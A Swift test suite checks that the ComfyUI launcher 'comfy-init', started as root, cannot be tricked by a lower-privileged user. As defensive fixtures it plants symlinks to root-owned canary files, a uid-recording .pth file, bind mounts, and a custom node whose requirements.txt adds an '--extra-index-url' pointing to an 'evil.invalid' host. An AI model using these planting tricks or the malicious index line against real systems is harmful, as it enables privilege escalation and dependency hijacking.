// Issue 8, "root is never tricked": comfy-init started as root with PUID hands the home over
// safely, then becomes PUID for everything else. Every plant that PUID (the server, a custom node)
// could leave in its folders must leave its target untouched: a root-owned canary keeps its content,
// mode and owner. Needs root: outside CI a non-root run skips the suite, in CI it fails.
import Foundation
import Testing

@testable import ComfyInitKit

private let puid: uid_t = 4242
@Suite(.serialized, .needs(.root))
struct RootSafetyTests {
  /// A home for comfy-init as root with PUID=PGID=4242. The stand-in repositories belong to root: a
  /// clone by PUID needs git's safe.directory, given through GIT_CONFIG_GLOBAL (git drops
  /// GIT_CONFIG_COUNT/KEY/VALUE before it runs upload-pack for a local repository).
  private func rootHome(_ extra: [String: String] = [:]) throws -> ComfyHome {
    try #require(getuid() == 0, "comfy-init's PUID mode needs the tests to run as root")
    let h = ComfyHome(
      ["COMFYUI_PASSWORD": "correct-horse-battery-staple", "PUID": "\(puid)", "PGID": "\(puid)"].merging(extra) { $1 })
    chmod(h.tmp.path, 0o755)
    chmod(h.calls, 0o666)
    let gitconfig = h.tmp.path + "/gitconfig"
    try "[safe]\n\tdirectory = *\n".write(toFile: gitconfig, atomically: false, encoding: .utf8)
    h.extra["GIT_CONFIG_GLOBAL"] = gitconfig
    return h
  }

  @Test func theServerAndEveryPythonRunAsPUIDWithoutGroups() throws {
    let h = try rootHome()
    // Root here may have no supplementary groups at all: give comfy-init some (setpriv execs it in
    // place, same pid), or dropping them could not be seen.
    let server = try BackgroundProcess(
      ["/usr/bin/setpriv", "--groups=27,100", "--", Paths.comfyInit, "run"], environment: h.environment,
      log: h.tmp.path + "/run.log")
    defer { server.stop() }
    #expect(h.waitUntilServing(server), "\(server.log)")
    // The gate runs as a uid of its own (65534): the server's code cannot signal it or read its memory.
    let gate = try #require(gatePID(under: server.pid), "no gate under comfy-init")
    let gateIDs = try credentials(of: gate)
    #expect(gateIDs.uid == ["65534", "65534", "65534", "65534"], "the gate: \(gateIDs)")
    #expect(gateIDs.groups.isEmpty, "the gate has supplementary groups \(gateIDs.groups)")
    for pid in [server.pid] + descendants(of: server.pid) where pid != gate {
      let ids = try credentials(of: pid)
      #expect(ids.uid == ["4242", "4242", "4242", "4242"], "pid \(pid): \(ids)")
      #expect(ids.gid == ["4242", "4242", "4242", "4242"], "pid \(pid): \(ids)")
      #expect(ids.groups.isEmpty, "pid \(pid) has supplementary groups \(ids.groups)")
    }
    // Root's HOME (/root) is not PUID's: the children get COMFYUI_HOME instead.
    let python = try #require(serverPID(under: server.pid))
    let environ = try String(contentsOfFile: "/proc/\(python)/environ", encoding: .isoLatin1)
    #expect(environ.split(separator: "\0").contains { $0 == "HOME=\(h.home)" }, "\(environ)")
    // After setuid the kernel makes comfy-init non-dumpable: the server (PUID) cannot read its
    // memory or environment, which hold the credential root read.
    var proc = stat()
    #expect(stat("/proc/\(server.pid)/environ", &proc) == 0 && proc.st_uid == 0, "comfy-init is dumpable")
    for path in [h.home, h.home + "/ComfyUI", h.home + "/.comfy-init", h.home + "/.comfy-init/lock", h.passwordFile] {
      #expect(owner(path) == puid, "\(path)")
    }
    server.signal(SIGTERM)
    #expect(server.wait(timeout: 10)?.status == 0, "\(server.log)")

    // A .pth file the server drops into site-packages runs in every Python of that venv: force a
    // reinstall so that pip runs, and see who ran it.
    let lib = h.home + "/venv/lib"
    let version = try #require(try FileManager.default.contentsOfDirectory(atPath: lib).first)
    let record = h.tmp.path + "/pth-uids"
    _ = FileManager.default.createFile(atPath: record, contents: nil)
    chmod(record, 0o666)
    try "import os; open('\(record)', 'a').write('%d\\n' % os.getuid())\n".write(
      toFile: "\(lib)/\(version)/site-packages/zz_canary.pth", atomically: false, encoding: .utf8)
    try FileManager.default.removeItem(atPath: h.home + "/venv/.comfy-init-stamp")
    h.resetCalls()
    let again = try h.bootstrap()
    #expect(again.status == 0, "\(again.stderr)")
    #expect(h.recordedCalls.contains { $0.contains("pip") && $0.contains("install") }, "pip did not run")
    let uids = try String(contentsOfFile: record, encoding: .utf8).split(separator: "\n")
    #expect(!uids.isEmpty && uids.allSatisfy { $0 == "4242" }, "the .pth file ran as \(uids)")
  }

  @Test func linksPlantedInPUIDsFoldersLeadNowhere() throws {
    let h = try rootHome()
    let first = try h.bootstrap()
    try #require(first.status == 0, "\(first.stderr)")
    let state = h.home + "/.comfy-init"
    let login = h.home + "/ComfyUI/login"
    let canary = try Canary(file: h.tmp.path + "/canary", "canary\n")

    // A root-only credential file (a Docker secret) is read before the drop.
    let secrets = h.tmp.path + "/secrets"
    try FileManager.default.createDirectory(atPath: secrets, withIntermediateDirectories: true)
    chmod(secrets, 0o700)
    try "a root-only password\n".write(toFile: secrets + "/password", atomically: false, encoding: .utf8)
    chmod(secrets + "/password", 0o600)
    let secret = try h.bootstrap(["COMFYUI_PASSWORD": "", "COMFYUI_PASSWORD_FILE": secrets + "/password"])
    #expect(secret.status == 0, "\(secret.stderr)")

    // The lock file, replaced by a link: never opened, truncated or written through.
    try FileManager.default.removeItem(atPath: state + "/lock")
    symlink(canary.path, state + "/lock")
    let locked = try h.bootstrap()
    #expect(locked.status == 13, "\(locked.stderr)")
    #expect(canary.now == canary.was)
    unlink(state + "/lock")

    // PASSWORD, a link to a file holding the right hash but readable by all: not re-moded through it.
    let hash = h.token
    let shared = try Canary(file: h.tmp.path + "/shared-password", hash + "\nadmin")
    unlink(h.passwordFile)
    symlink(shared.path, h.passwordFile)
    let kept = try h.bootstrap(["COMFYUI_PASSWORD": "", "COMFYUI_PASSWORD_HASH": hash])
    #expect(kept.status == 0, "\(kept.stderr)")
    #expect(shared.now == shared.was)
    unlink(h.passwordFile)

    // ComfyUI/login, a link to a root-owned folder: not chowned, nothing written into it.
    let folder = try Canary(folder: h.tmp.path + "/canary-folder")
    try FileManager.default.moveItem(atPath: login, toPath: login + ".saved")
    symlink(folder.path, login)
    let redirected = try h.bootstrap(["COMFYUI_PASSWORD": "yet another password"])
    #expect(redirected.status != 0, "\(redirected.stderr)")
    #expect(folder.now == folder.was)
    unlink(login)
    try FileManager.default.moveItem(atPath: login + ".saved", toPath: login)

    // `comfy-init health` as root (docker exec) never sends the first line of a linked file.
    let token = try Canary(file: h.tmp.path + "/token", "SECRET-CANARY-TOKEN\nadmin", mode: 0o600)
    unlink(h.passwordFile)
    symlink(token.path, h.passwordFile)
    try "phase=bootstrapped\nsince=0\npid=1\ndetail=\n".write(
      toFile: state + "/status", atomically: true, encoding: .utf8)
    for env in [h.environment, h.environment.merging(["PUID": "", "PGID": ""]) { $1 }] {
      let health = try runProcess([Paths.comfyInit, "health"], environment: env)
      #expect(health.status == 1 && health.stdout.hasPrefix("no token"), "\(health.stdout)")
      #expect(!health.all.contains("SECRET-CANARY"))
    }
    #expect(token.now == token.was)
  }

  /// The temporary file of every state write (the status, the stamps, PASSWORD, the session key):
  /// a link planted at the very name it is about to use is skipped, never written through. The name is
  /// random (nobody can plant it ahead), so the test hands writeAtomically its names.
  @Test func aLinkAtTheTemporaryNameIsSkippedNeverWrittenThrough() throws {
    let tmp = TempDir("tempname")
    let canary = try Canary(file: tmp.path + "/canary", "canary\n")
    let target = tmp.path + "/PASSWORD"
    var names = [target + ".tmp-planted", target + ".tmp-free"]
    #expect(symlink(canary.path, names[0]) == 0)
    try FileSystem.writeAtomically(
      target, Array("hash\nadmin".utf8), mode: 0o600, temporaryName: { _ in names.removeFirst() })
    #expect(canary.now == canary.was, "the write went through the planted link")
    #expect(try String(contentsOfFile: target, encoding: .utf8) == "hash\nadmin")
    var st = stat()
    #expect(lstat(target, &st) == 0 && (st.st_mode & S_IFMT) == S_IFREG && (st.st_mode & 0o777) == 0o600)
    #expect(lstat(target + ".tmp-planted", &st) == 0 && (st.st_mode & S_IFMT) == S_IFLNK, "the plant was removed")
    #expect(names.isEmpty, "the free name was not tried")
  }

  /// Root makes and hands over COMFYUI_STATE_DIR: on a path that PUID can change, PUID would choose
  /// what root hands over. Here PUID's folder holds `run`, a link to a root folder with a `state`.
  @Test func aStateFolderBelowAFolderPUIDCanChangeIsRefused() throws {
    let h = try rootHome()
    let owned = h.tmp.path + "/owned"
    try FileManager.default.createDirectory(atPath: owned, withIntermediateDirectories: true)
    chown(owned, puid, puid)
    let victim = try Canary(folder: h.tmp.path + "/victim")
    try FileManager.default.createDirectory(atPath: victim.path + "/state", withIntermediateDirectories: true)
    try "root's\n".write(toFile: victim.path + "/state/file", atomically: false, encoding: .utf8)
    let victimWas = Canary.describe(victim.path)
    #expect(symlink(victim.path, owned + "/run") == 0)
    let refused = try h.bootstrap(["COMFYUI_STATE_DIR": owned + "/run/state"])
    #expect(refused.status == 19, "\(refused.stderr)")
    let errors = refused.stderr.split(separator: "\n").filter { $0.contains("comfy-init: error:") }
    #expect(errors.count == 1, "\(refused.stderr)")
    #expect(
      errors.first?.contains(
        "COMFYUI_STATE_DIR=\(owned)/run/state is below \(owned), which uid 4242 (PUID) can change (it owns it)")
        == true,
      "\(errors)")
    #expect(errors.first?.contains("use a folder whose path only root can change") == true, "\(errors)")
    #expect(Canary.describe(victim.path) == victimWas, "root handed PUID's choice over")
    #expect(!FileManager.default.fileExists(atPath: h.home + "/ComfyUI"), "the start went on")

    // A folder PUID may write to counts too (here: everyone may, not sticky).
    let open = h.tmp.path + "/open"
    try FileManager.default.createDirectory(atPath: open + "/sub", withIntermediateDirectories: true)
    chmod(open, 0o777)
    let writable = try h.bootstrap(["COMFYUI_STATE_DIR": open + "/sub/state"])
    #expect(writable.status == 19, "\(writable.stderr)")
    #expect(writable.stderr.contains("is below \(open), which uid 4242 (PUID) can change (it may write to it)"))

    // A path only root can change: accepted, the state folder itself handed over.
    let rootOnly = h.tmp.path + "/root-only/run/state"
    let accepted = try h.bootstrap(["COMFYUI_STATE_DIR": rootOnly])
    #expect(accepted.status == 0, "\(accepted.stderr)")
    #expect(owner(rootOnly) == puid && owner(rootOnly + "/lock") == puid)
    #expect(owner(h.tmp.path + "/root-only/run") == 0)
  }

  /// A local source repository (file://) that root owns: git as PUID refuses it ("dubious ownership"),
  /// even with `-c safe.directory` (it does not reach the upload-pack of a local clone). Root is the
  /// more trusted owner: trusted for that command. No git configuration is given here.
  @Test func aRootOwnedLocalSourceIsClonedAndFetchedAsPUID() throws {
    let h = try rootHome()
    h.extra["GIT_CONFIG_GLOBAL"] = nil
    #expect(owner(StandinRepos.dir + "/comfyui.git-src") == 0 && owner(StandinRepos.dir + "/login-src") == 0)
    let first = try h.bootstrap()
    #expect(first.status == 0, "\(first.stderr)")
    #expect(!first.stderr.contains("dubious ownership"), "\(first.stderr)")
    let login = h.home + "/ComfyUI/custom_nodes/ComfyUI-Login"
    #expect(owner(login + "/__init__.py") == puid)

    // The pinned node at another commit: comfy-init fetches its ref from the root-owned source.
    let pinned = try git(["-C", StandinRepos.dir + "/login-src", "rev-parse", StandinRepos.loginRef + "^{commit}"])
    let config = h.tmp.path + "/puid-gitconfig"
    try "[safe]\n\tdirectory = *\n".write(toFile: config, atomically: false, encoding: .utf8)
    let asPUID = ["/usr/bin/setpriv", "--reuid=\(puid)", "--regid=\(puid)", "--clear-groups", "--", "/usr/bin/git"]
    var env = baseEnvironment()
    env["GIT_CONFIG_GLOBAL"] = config
    env["HOME"] = h.home
    for args in [
      ["-C", login, "fetch", "--quiet", "file://" + StandinRepos.dir + "/login-src", "tag", "v0.9-standin"],
      ["-C", login, "-c", "advice.detachedHead=false", "checkout", "--quiet", "v0.9-standin"],
    ] {
      let moved = try runProcess(asPUID + args, environment: env)
      try #require(moved.status == 0, "\(moved.stderr)")
    }
    let second = try h.bootstrap()
    #expect(second.status == 0, "\(second.stderr)")
    #expect(try git(["-c", "safe.directory=*", "-C", login, "rev-parse", "HEAD"]) == pinned, "\(second.stderr)")
    #expect(second.stderr.contains("moving it to \(StandinRepos.loginRef)"), "\(second.stderr)")

    // Another uid's repository is not trusted, and the message says why instead of blaming the network.
    let foreign = h.tmp.path + "/ForeignNode"
    try git(["clone", "--quiet", StandinRepos.dir + "/login-src", foreign])
    _ = try runProcess(["/bin/chown", "-R", "4343:4343", foreign], environment: baseEnvironment())
    let refused = try h.bootstrap(["COMFYUI_CUSTOM_NODES": "file://" + foreign])
    #expect(refused.status == 18, "\(refused.stderr)")
    let errors = refused.stderr.split(separator: "\n").filter { $0.contains("comfy-init: error:") }
    #expect(errors.count == 1, "\(refused.stderr)")
    #expect(
      errors.first?.contains(
        "\(foreign) belongs to uid 4343 and git runs as uid 4242: git refuses a repository another user owns") == true,
      "\(errors)")
  }

  @Test func theHandOverFollowsNoLinkAndEntersNoOtherMount() throws {
    let h = try rootHome()
    // An older comfy-init ran as root without PUID: everything belongs to root.
    let asRoot = try h.bootstrap(["PUID": "", "PGID": ""])
    try #require(asRoot.status == 0, "\(asRoot.stderr)")
    let comfy = h.home + "/ComfyUI"
    let file = try Canary(file: h.tmp.path + "/canary", "canary\n")
    let folder = try Canary(folder: h.tmp.path + "/canary-folder")
    symlink(file.path, comfy + "/models/linked-file")
    symlink(folder.path, comfy + "/linked-folder")
    let hard = try Canary(file: h.tmp.path + "/hard", "hard-linked\n")
    link(hard.path, comfy + "/hard-linked")

    // Another filesystem (a tmpfs) and a bind mount of a root folder (same st_dev, its own mount).
    let tmpfs = comfy + "/models/tmpfs"
    let bound = comfy + "/output/bound"
    let source = try Canary(folder: h.tmp.path + "/bind-source")
    try FileManager.default.createDirectory(atPath: tmpfs, withIntermediateDirectories: true)
    try FileManager.default.createDirectory(atPath: bound, withIntermediateDirectories: true)
    let mounts = [
      try runProcess(["/bin/mount", "-t", "tmpfs", "-o", "size=1m,mode=0755", "tmpfs", tmpfs], environment: [:]),
      try runProcess(["/bin/mount", "--bind", source.path, bound], environment: [:]),
    ]
    defer { for point in [tmpfs, bound] { _ = try? runProcess(["/bin/umount", "-l", point], environment: [:]) } }
    let mounted = mounts.allSatisfy { $0.status == 0 }
    // Root without CAP_SYS_ADMIN (an unprivileged container) cannot mount: only CI insists.
    if !mounted, mayRun(part: "the other-filesystem and bind-mount canaries", needs: .tmpfs) {
      Issue.record("cannot mount although this machine can: \(mounts.map(\.stderr))")
    }
    let inside = try Canary(file: tmpfs + "/model.bin", "on another filesystem\n")

    let handed = try h.bootstrap()
    #expect(handed.status == 0, "\(handed.stderr)")
    #expect(handed.stderr.contains("ownership: \(h.home) handed to 4242:4242"), "\(handed.stderr)")
    for path in [h.home, comfy, comfy + "/main.py", comfy + "/models", h.home + "/venv/bin/python", h.passwordFile] {
      #expect(owner(path) == puid, "\(path) was not handed over")
    }
    #expect(owner(comfy + "/linked-folder") == puid, "the link itself is PUID's")
    for canary in [file, folder, hard] { #expect(canary.now == canary.was) }
    if mounted {
      for canary in [source, inside] { #expect(canary.now == canary.was) }
      #expect(owner(tmpfs) == 0 && owner(bound) == 0)
      #expect(handed.stderr.contains("left \(tmpfs) as it is"), "\(handed.stderr)")
    }
  }

  @Test func aPlantedPartialLinkIsNeverWrittenThrough() throws {
    try #require(getuid() == 0, "needs root")
    let data = modelBytes(300_000, seed: 11)
    let server = try ModelServer(files: ["n.bin": data])
    let home = try ProvisionHome()
    chmod(home.dir.path, 0o755)
    let canary = try Canary(file: home.dir.path + "/canary", String(repeating: "canary\n", count: 1000))
    try FileManager.default.createDirectory(atPath: home.models + "/vae", withIntermediateDirectories: true)
    symlink(canary.path, home.models + "/vae/n.bin.partial")
    // The server ignores Range: the old code truncated the "partial" file and wrote the body over it.
    try home.writeManifest(["\(server.url("n.bin", query: "norange=1")) vae/n.bin \(sha256Hex(data))"])
    for env in [["PUID": "\(puid)", "PGID": "\(puid)"], [:]] {
      let result = try home.provision(env)
      #expect(result.status == 20, "\(result.stderr)")
      #expect(result.stderr.contains("is a link or not a regular file"), "\(result.stderr)")
      #expect(canary.now == canary.was)
    }
    #expect(!home.exists("vae/n.bin"))
  }

  @Test func optionLinesInANodesRequirementsAreRefused() throws {
    let h = try rootHome()
    let repo = h.tmp.path + "/EvilNode"
    try FileManager.default.createDirectory(atPath: repo, withIntermediateDirectories: true)
    try "NODE_CLASS_MAPPINGS = {}\n".write(toFile: repo + "/__init__.py", atomically: false, encoding: .utf8)
    try "six  # fine\n--extra-index-url https://evil.invalid/simple\n".write(
      toFile: repo + "/requirements.txt", atomically: false, encoding: .utf8)
    let git = ["/usr/bin/git", "-C", repo, "-c", "user.email=t@invalid", "-c", "user.name=t"]
    for args in [["init", "-q"], ["add", "-A"], ["commit", "-q", "-m", "evil"]] {
      #expect(try runProcess(git + args, environment: baseEnvironment()).status == 0)
    }
    let result = try h.bootstrap(["COMFYUI_CUSTOM_NODES": "file://" + repo])
    #expect(result.status == 18, "\(result.stderr)")
    let errors = result.stderr.split(separator: "\n").filter { $0.contains("comfy-init: error:") }
    #expect(errors.count == 1, "\(result.stderr)")
    #expect(errors.first?.contains("custom node EvilNode") == true, "\(errors)")
    #expect(errors.first?.contains("'--extra-index-url https://evil.invalid/simple'") == true, "\(errors)")
    #expect(!h.recordedCalls.contains { $0.contains("pip") }, "an installer ran: \(h.recordedCalls)")
    #expect(!FileManager.default.fileExists(atPath: h.home + "/venv/.comfy-init-stamp"))
  }
}

/// The requirement-line check alone (no root needed).
@Suite struct RequirementOptionTests {
  @Test func optionLinesAreFoundAsPipReadsThem() {
    for line in ["-e .", "  -r other.txt", "--index-url=https://x", "-i https://x", "pkg --global-option=x", "x\t-c c"]
    {
      #expect(Venv.optionLine("six\n" + line + "\n") == line.trimmingCharacters(in: .whitespaces), "\(line)")
    }
    for text in [
      "six==1.17.0 --hash=sha256:abc \\\n", "# -e comment", "pkg  # --index-url in a comment",
      "pkg; python_version < \"3.12\"", "git+https://host/x.git#egg=x-y", "",
    ] {
      #expect(Venv.optionLine(text) == nil, "\(text)")
    }
  }
}

/// A root-owned file or folder that no plant may change: owner, mode and content as they were.
private struct Canary {
  let path: String
  let was: String

  init(file path: String, _ text: String, mode: mode_t = 0o644) throws {
    try text.write(toFile: path, atomically: false, encoding: .utf8)
    chmod(path, mode)
    self.path = path
    was = Canary.describe(path)
  }

  init(folder path: String) throws {
    try FileManager.default.createDirectory(atPath: path, withIntermediateDirectories: true)
    chmod(path, 0o755)
    try "keep\n".write(toFile: path + "/keep", atomically: false, encoding: .utf8)
    self.path = path
    was = Canary.describe(path)
  }

  var now: String { Canary.describe(path) }

  static func describe(_ path: String) -> String {
    var st = stat()
    guard lstat(path, &st) == 0 else { return "missing" }
    let isFolder = (st.st_mode & S_IFMT) == S_IFDIR
    let content =
      isFolder
      ? ((try? FileManager.default.contentsOfDirectory(atPath: path)) ?? []).sorted().map {
        $0 + ":" + describe(path + "/" + $0)
      }
      .joined(separator: ",")
      : (try? String(contentsOfFile: path, encoding: .utf8)) ?? "unreadable"
    return "\(st.st_uid):\(st.st_gid) \(String(st.st_mode, radix: 8)) \(content)"
  }
}

private func owner(_ path: String) -> uid_t? {
  var st = stat()
  return lstat(path, &st) == 0 ? st.st_uid : nil
}

/// Uid, Gid (real, effective, saved, filesystem) and Groups from /proc/PID/status.
private func credentials(of pid: Int32) throws -> (uid: [String], gid: [String], groups: [String]) {
  let status = try String(contentsOfFile: "/proc/\(pid)/status", encoding: .utf8)
  func field(_ name: String) -> [String] {
    let line = status.split(separator: "\n").first { $0.hasPrefix(name + ":") } ?? ""
    return line.dropFirst(name.count + 1).split(whereSeparator: { $0 == " " || $0 == "\t" }).map(String.init)
  }
  return (field("Uid"), field("Gid"), field("Groups"))
}
